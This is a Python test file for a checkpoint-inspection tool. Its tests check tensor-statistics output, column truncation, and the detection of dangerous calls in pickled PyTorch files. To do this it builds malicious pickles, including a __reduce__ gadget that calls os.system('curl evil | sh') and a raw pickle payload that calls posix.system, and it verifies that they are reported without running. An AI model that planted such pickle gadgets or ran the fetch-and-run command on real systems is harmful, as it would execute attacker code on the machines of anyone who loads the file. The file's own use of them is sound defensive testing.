"""inspect: a header for what is piped, a sign for columns that do not fit, and what would be called first."""

from __future__ import annotations

import os
import pickle
import zipfile
from pathlib import Path
from typing import Any

import pytest
import torch

import ckpttool
from ckpttool.analysis.summary import summarize
from ckpttool.analysis.tables import measure, tensor_rows
from ckpttool.cli.commands.inspect import stats_table
from ckpttool.cli.inspect_page import page


class Call:
    """Pickled as a call, which is never made here."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments


class Unknown:
    """A class that nobody else knows."""


def crafted(path: Path, **values: Any) -> Path:
    torch.save({"model": {"w": torch.ones(2, 3)}, **values}, path)
    return path


def test_tensors_with_statistics_have_a_header_when_piped(cli: Any, tmp_path: Path) -> None:
    file = crafted(tmp_path / "a.pt", epoch=1)
    lines = cli("inspect", file, "--tensors", "--stats").out.splitlines()
    header, row = (line.split("\t") for line in lines)
    wanted = ["tensor", "dtype", "shape", "bytes", "shared with", "min", "max", "mean", "std", "not finite"]
    assert header == wanted
    assert row == ["model.w", "float32", "[2,3]", "24", "", "1", "1", "1", "0", "0"]
    assert cli("inspect", file, "--tensors").out == "model.w\tfloat32\t[2,3]\t24\t\n", (
        "as it was, for cut and awk"
    )
    torch.save({"epoch": 1}, tmp_path / "none.pt")
    assert cli("inspect", tmp_path / "none.pt", "--tensors", "--stats").out.strip() == ""


@pytest.mark.parametrize("width", [30, 50, 80, 200])
def test_columns_that_do_not_fit_are_named(width: int, tmp_path: Path) -> None:
    state = {"blocks.0.attention.query.weight": torch.rand(1200, 3) * 1e-9}
    torch.save(state, tmp_path / "a.pt")
    with ckpttool.open(tmp_path / "a.pt") as checkpoint:
        stats = {name: measure(name, tensor) for name, tensor in checkpoint.tensors()}
        lines = list(stats_table(tensor_rows(checkpoint), stats, width))
    gone = [name for name in ("mean", "std") if name not in lines[0]]
    assert (len(lines) == 3) == bool(gone)
    if gone:
        assert lines[-1].startswith(f"without {', '.join(gone)}"[: width - 1])
        assert all(len(line) <= width for line in lines)


def test_a_call_is_shown_with_its_argument_before_an_unknown_class(cli: Any, tmp_path: Path) -> None:
    file = crafted(tmp_path / "a.pt", a=Unknown(), b=Call(os.system, "curl evil | sh"), c=Call(eval, "1+1"))
    ran = cli("inspect", file)
    lines = [line for line in ran.out.splitlines() if "(kept inert" in line or line.startswith("  calls")]
    assert "posix.system('curl evil | sh')" in lines[0] + lines[1]
    assert "eval('1+1')" in lines[0] + lines[1]
    assert lines[-1].startswith("  could run") and "Unknown" in lines[-1]
    data = cli("inspect", file, "--json").json
    assert sorted(data["calls"]) == ["__builtin__.eval('1+1')", "posix.system('curl evil | sh')"]
    with ckpttool.open(file) as checkpoint:
        shown = list(page(summarize(checkpoint), None, None, 40, everything=False))
    assert any("\x1b[31m" in line and "posix.system" in line for line in shown), "in red on a terminal"


def test_a_call_that_the_pickle_drops_is_named_and_a_long_argument_is_cut(cli: Any, tmp_path: Path) -> None:
    dropped = b"\x80\x02cposix\nsystem\n(X\x02\x00\x00\x00lstR0}."
    with zipfile.ZipFile(tmp_path / "dropped.pt", "w") as archive:
        archive.writestr("a/data.pkl", dropped)
        archive.writestr("a/version", "3\n")
    out = cli("inspect", tmp_path / "dropped.pt").out
    assert "posix.system" in out
    file = crafted(tmp_path / "long.pt", b=Call(os.system, "x" * 10_000), n=Call(os.system, b"\x00" * 5000))
    assert len(cli("inspect", file).out) < 3000


def test_harmless_files_say_nothing_of_calls(cli: Any, tmp_path: Path) -> None:
    out = cli("inspect", crafted(tmp_path / "a.pt", epoch=1, when=pickle.dumps(1))).out
    assert "calls" not in out and "could run" not in out
